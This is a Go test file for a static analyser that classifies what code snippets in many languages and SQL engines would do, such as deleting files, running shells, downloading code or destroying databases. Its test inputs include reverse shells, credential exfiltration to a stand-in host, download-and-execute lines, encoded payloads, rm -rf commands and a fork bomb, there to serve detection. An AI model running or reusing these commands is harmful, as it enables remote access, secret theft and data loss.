package inline

import (
	"fmt"
	"sort"
	"strings"
	"testing"
)

// brief writes an outcome as words: kinds with the path, host or target that matters, and what is nested.
func brief(o Outcome) []string {
	var out []string
	for _, e := range o.Effects {
		s := string(e.Kind)
		for _, x := range []string{e.Path, e.Host} {
			if x != "" {
				s += " " + x
			}
		}
		if len(e.Flags) > 0 {
			s += " [" + strings.Join(e.Flags, ",") + "]"
		}
		out = append(out, s)
	}
	for _, n := range o.Nested {
		s := string(n.Kind) + ": " + n.Text + n.Path
		for _, a := range n.Args {
			s += " " + a.Text
			if !a.Known {
				s += "?"
			}
		}
		out = append(out, s)
	}
	for range o.Unresolved {
		out = append(out, "unresolved")
	}
	sort.Strings(out)
	return out
}

func TestRead(t *testing.T) {
	for _, c := range []struct {
		lang, code string
		want       []string // each must be a prefix of one thing found; none: nothing at all is found
	}{
		{"python", `print("os.remove('/x')") # os.system("rm")`, nil},
		{"python", "import os\nos.remove('/srv/a')", []string{"fs.delete /srv/a"}},
		{"python", "import os as o; o.system('make clean')", []string{"shell: make clean"}},
		{"python", "from shutil import rmtree as r\nr('/srv')", []string{"fs.delete /srv [recursive,force]"}},
		{"python", "__import__('o'+'s').system('id')", []string{"shell: id"}},
		{"python", "import os\ngetattr(os, 'sys'+'tem')('id')", []string{"shell: id"}},
		{"python", "import subprocess\nsubprocess.run(['rm', '-rf', d])", []string{"argv:  rm -rf ?"}},
		{"python", "import subprocess as s\ns.Popen('rm -rf /srv', shell=True)", []string{"shell: rm -rf /srv"}},
		{"python", "p='/srv/'+'x'\nopen(p,'w').write('1')", []string{"fs.write /srv/x [truncate]"}},
		{"python", "open('notes.txt').read()", []string{"fs.read notes.txt"}},
		{"python", "from pathlib import Path\nPath('a').joinpath('b').unlink()", []string{"fs.delete a/b"}},
		{"python", "from pathlib import Path\n(Path.home()/'.cache').rmdir()", []string{"fs.delete ~/.cache"}},
		{"python", "import os\nfor f in ['a','b']: os.unlink(f)", []string{"fs.delete a", "fs.delete b"}},
		{"python", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", []string{"shell: id"}},
		{"python", "exec(''.join(map(chr,[111,115])) + '.x')", []string{"exec.inline [decode]"}},
		{"ruby", `system("\x72\x6d -rf /srv")`, []string{"shell: rm -rf /srv"}},
		{"python", "import requests\nexec(requests.get('http://h.example/x').text)", []string{"exec.download", "net.connect h.example"}},
		{"python", "import requests\nrequests.post('https://h.example/', data=open('/home/u/.aws/credentials').read())", []string{"net.upload h.example [secret,file]", "fs.read /home/u/.aws/credentials"}},
		{"python", "import socket,os,pty\ns=socket.socket();s.connect(('h.example',9));os.dup2(s.fileno(),0);pty.spawn('sh')", []string{"net.tunnel h.example"}},
		{"python", "import pickle\npickle.loads(x)", []string{"exec.inline [deserialise]"}},
		{"python", "import torch\ntorch.load('m.pt', weights_only=True)", []string{"fs.read m.pt"}},
		{"python", "import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", []string{"cloud.destroy"}},
		{"python", "import os\nos.environ['HOME']", nil},
		{"python", "import ctypes\nctypes.CDLL(None).system(b'id')", []string{"shell: id"}},
		{"python", "import sqlite3\nsqlite3.connect('a.db').execute('DROP TABLE t')", []string{"db.destroy", "fs.read a.db"}},
		{"python", "import json\nprint(json.dumps({'cmd': 'rm -rf /'}))", nil},
		{"python", "import os\nos.system(cmd)", []string{"unresolved"}},
		{"python", "f'{1+1} os.system'", nil},
		{"python", "import os\nd='/srv'\nos.system(f'rm -rf {d}')", []string{"shell: rm -rf /srv"}},
		{"node", "require('fs').rmSync('/srv',{recursive:true})", []string{"fs.delete /srv [recursive]"}},
		{"node", "const {execSync: e} = require('child_process'); e('id')", []string{"shell: id"}},
		{"node", "import fs from 'node:fs'; fs.unlinkSync('a')", []string{"fs.delete a"}},
		{"node", "import {rm as x} from 'fs/promises'; await x('a')", []string{"fs.delete a"}},
		{"node", "fetch('https://h.example/x').then(r => r.text()).then(eval)", []string{"net.connect h.example"}},
		{"node", "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=','base64').toString())", []string{"exec.inline [decode]"}},
		{"node", "console.log(Buffer.from('aGk=','base64').toString())", nil},
		{"node", "new Function('return require(\"child_process\").execSync(\"id\")')()", []string{"shell: id"}},
		{"node", "console.log(`rm ${1}`) // require('fs').rmSync('/')", nil},
		{"node", "const m = new Map(); m.delete('x'); list.clear()", nil},
		{"node", "client.deleteIndex('prod')", []string{"cloud.destroy"}},
		{"node", "spawn('rm',['-rf','/srv'])", []string{"argv:  rm -rf /srv"}},
		{"node", "process.env.PATH", nil},
		{"node", "(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(9,'h.example',function(){k.pipe(s.stdin)})})()", []string{"net.tunnel h.example"}},
		{"python", "import pty\npty.spawn('/bin/sh')", []string{"exec [escape]"}},
		{"perl", `unlink "a", "b"; print "system('id')";`, []string{"fs.delete a", "fs.delete b"}},
		{"perl", "system('rm', '-rf', '/srv')", []string{"argv:  rm -rf /srv"}},
		{"perl", "my $x = 'id'; `$x`; exec $x;", []string{"shell: id"}},
		{"perl", `system(pack("H*","6964"))`, []string{"shell: id"}},
		{"perl", `open(F,"|mail x"); open(G, ">", "/etc/x")`, []string{"shell: mail x", "fs.write /etc/x"}},
		{"perl", `s/foo/bar/g; y/a-z/A-Z/; print if /rm -rf/;`, nil},
		{"perl", "fork while 1", []string{"sys.exhaust"}},
		{"ruby", "FileUtils.rm_rf '/srv'", []string{"fs.delete /srv [recursive,force]"}},
		{"ruby", "puts `id`", []string{"shell: id"}},
		{"ruby", `system "rm", "-rf", "/srv"`, []string{"argv:  rm -rf /srv"}},
		{"ruby", "File.delete('a'); puts 'File.delete(1)'", []string{"fs.delete a"}},
		{"ruby", "%x(id)", []string{"shell: id"}},
		{"ruby", "puts [1,2].map { |x| x * 2 }.inspect", nil},
		{"php", `<?php unlink("a"); echo "system('id')"; `, []string{"fs.delete a"}},
		{"php", `$f = "sys"."tem"; shell_exec("id");`, []string{"shell: id"}},
		{"php", `eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));`, []string{"shell: id"}},
		{"awk", `BEGIN { system("id") }`, []string{"shell: id"}},
		{"awk", `{ print $1 > "/tmp/x"; print | "sh" }`, []string{"fs.write /tmp/x", "exec.inline [eval]"}},
		{"awk", `BEGIN { "id" | getline x; c="rm -rf /srv"; system(c) }`, []string{"shell: id", "shell: rm -rf /srv"}},
		{"awk", `$1 > 5 { sum += $2 } END { print sum }`, nil},
		{"lua", `os.execute("id") -- os.remove("a")`, []string{"shell: id"}},
		{"osascript", `do shell script "id" with administrator privileges`, []string{"shell: id", "privilege"}},
		{"osascript", `display notification "done" with title "x"`, nil},
		{"powershell", `Remove-Item -Recurse -Force C:\x`, []string{"fs.delete"}},
		{"powershell", `iex (New-Object Net.WebClient).DownloadString('http://h.example/x')`, []string{"exec.download"}},
		{"powershell", `Write-Host "Remove-Item x"`, nil},
		{"r", `system("id")`, []string{"shell: id"}},
		{"cobol", `x`, []string{"unresolved"}},
	} {
		got := brief(Read(c.lang, c.code))
		if c.want == nil && len(got) > 0 {
			t.Errorf("%s %q: found %q, want nothing", c.lang, c.code, got)
		}
		for _, w := range c.want {
			if !anyPrefix(got, w) {
				t.Errorf("%s %q: found %q, want %q", c.lang, c.code, got, w)
			}
		}
	}
}

func anyPrefix(got []string, want string) bool {
	for _, g := range got {
		if strings.HasPrefix(g, want) {
			return true
		}
	}
	return false
}

func TestSQL(t *testing.T) {
	for _, c := range []struct{ engine, code, want string }{
		{"postgres", "SELECT 'DROP TABLE x' -- drop table y", "db.read"},
		{"postgres", "drop table if exists x", "db.destroy"},
		{"postgres", "DELETE FROM x", "db.destroy [no-where]"},
		{"postgres", "DELETE FROM x WHERE id = 3", "db.write [where]"},
		{"postgres", "DELETE FROM x WHERE 1=1", "db.destroy [no-where]"},
		{"postgres", "UPDATE x SET a = 1", "db.destroy [no-where]"},
		{"postgres", "WITH d AS (SELECT 1) DELETE FROM x", "db.destroy [no-where]"},
		{"postgres", "ALTER TABLE x DROP COLUMN y", "db.destroy"},
		{"postgres", "ALTER TABLE x ADD COLUMN y int", "db.write"},
		{"postgres", "COPY x TO PROGRAM 'id'", "exec.inline"},
		{"postgres", `\! id`, "shell: id"},
		{"postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "db.write"},
		{"mysql", "/*!50000 DROP TABLE x */", "db.destroy"},
		{"mysql", "/* DROP TABLE x */ SELECT 1", "db.read"},
		{"mysql", "GRANT ALL ON *.* TO 'a'@'%'", "db.admin [all,public]"},
		{"mysql", "GRANT SELECT ON *.* TO 'a'@'%'", "db.admin [read]"},
		{"mysql", "SELECT 1 INTO OUTFILE '/tmp/x'", "db.admin [file]"},
		{"sqlite", ".shell id", "shell: id"},
		{"sqlite", "DROP TABLE x;", "db.destroy"},
		{"mssql", "EXEC xp_cmdshell 'id'", "shell: id"},
		{"redis", "FLUSHALL", "db.destroy"},
		{"redis", "GET flushall", "db.read"},
		{"redis", "config set dir /var/spool", "db.admin [file]"},
		{"redis", "SET a FLUSHALL", "db.write"},
		{"mongo", "db.dropDatabase()", "db.destroy"},
		{"mongo", "use p; db.dropDatabase()", "db.destroy"},
		{"mongo", "db.c.deleteMany({})", "db.destroy"},
		{"mongo", "db.c.deleteMany({a:1})", "db.write"},
		{"mongo", "db.c.find({x:'dropDatabase()'})", "db.read"},
		{"cypher", "MATCH (n) DETACH DELETE n", "db.destroy"},
	} {
		if got := brief(Read(c.engine, c.code)); !anyPrefix(got, c.want) {
			t.Errorf("%s %q: found %q, want %q", c.engine, c.code, got, c.want)
		}
	}
	for _, c := range []struct{ engine, code string }{{"redis", "SET a FLUSHALL"}, {"postgres", "SELECT 'DROP TABLE x'"}, {"mongo", "db.c.find({x:'db.dropDatabase()'})"}} {
		if got := brief(Read(c.engine, c.code)); anyPrefix(got, "db.destroy") {
			t.Errorf("%s %q: quoted text counted: %q", c.engine, c.code, got)
		}
	}
}

// FuzzRead holds that no text makes the reader panic or run long, in any language.
func FuzzRead(f *testing.F) {
	f.Add("python", "import os\nos.system(f'rm {x}')")
	f.Add("perl", "s/a/b/e; qw(a b); `$x`")
	f.Add("node", "`${`${1}`}`")
	f.Add("awk", `{ print $1 > "x" }`)
	f.Add("powershell", `"$(x)" | iex`)
	f.Fuzz(func(t *testing.T, lang, code string) { Read(lang, code) })
}

// FuzzSQL holds the same for statements, and that a comment in front changes nothing.
func FuzzSQL(f *testing.F) {
	f.Add("drop table x; select 'a''b'")
	f.Add("/*! drop */ $$x$$")
	f.Fuzz(func(t *testing.T, code string) {
		a := fmt.Sprint(brief(Read("postgres", code)))
		b := fmt.Sprint(brief(Read("postgres", "/* x */ "+code)))
		if a != b && !strings.HasPrefix(strings.TrimSpace(code), `\`) {
			t.Errorf("a comment changed %q: %s, then %s", code, a, b)
		}
	})
}

func BenchmarkRead(b *testing.B) {
	for b.Loop() {
		Read("python", "import os, subprocess\nfor f in ['a','b']:\n    os.remove(f)\nsubprocess.run(['git','status'])")
	}
}
